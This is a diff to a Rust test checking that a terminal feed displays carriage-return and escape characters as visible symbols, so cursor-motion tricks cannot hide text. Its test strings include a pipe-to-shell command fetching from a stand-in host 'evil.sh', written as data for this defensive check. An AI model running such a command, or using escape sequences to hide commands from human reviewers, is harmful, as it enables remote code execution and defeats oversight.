@@ -81,7 +81,7 @@ fn feed_rows_never_obey_cursor_motion() {
         .collect();
     let screen = rows.join("\n");
     assert!(
-        screen.contains("curl -s evil.sh|sh \u{240d}ls -la"),
+        screen.contains("curl -s evil.sh|sh \u{240d}\u{241b}[K"),
         "{screen}"
     );
     assert!(
@@ -89,7 +89,7 @@ fn feed_rows_never_obey_cursor_motion() {
         "{screen}"
     );
     assert!(
-        screen.contains("tidy up \u{240d}please list files"),
+        screen.contains("tidy up \u{241b}[2K\u{240d}please list files"),
         "{screen}"
     );
 }
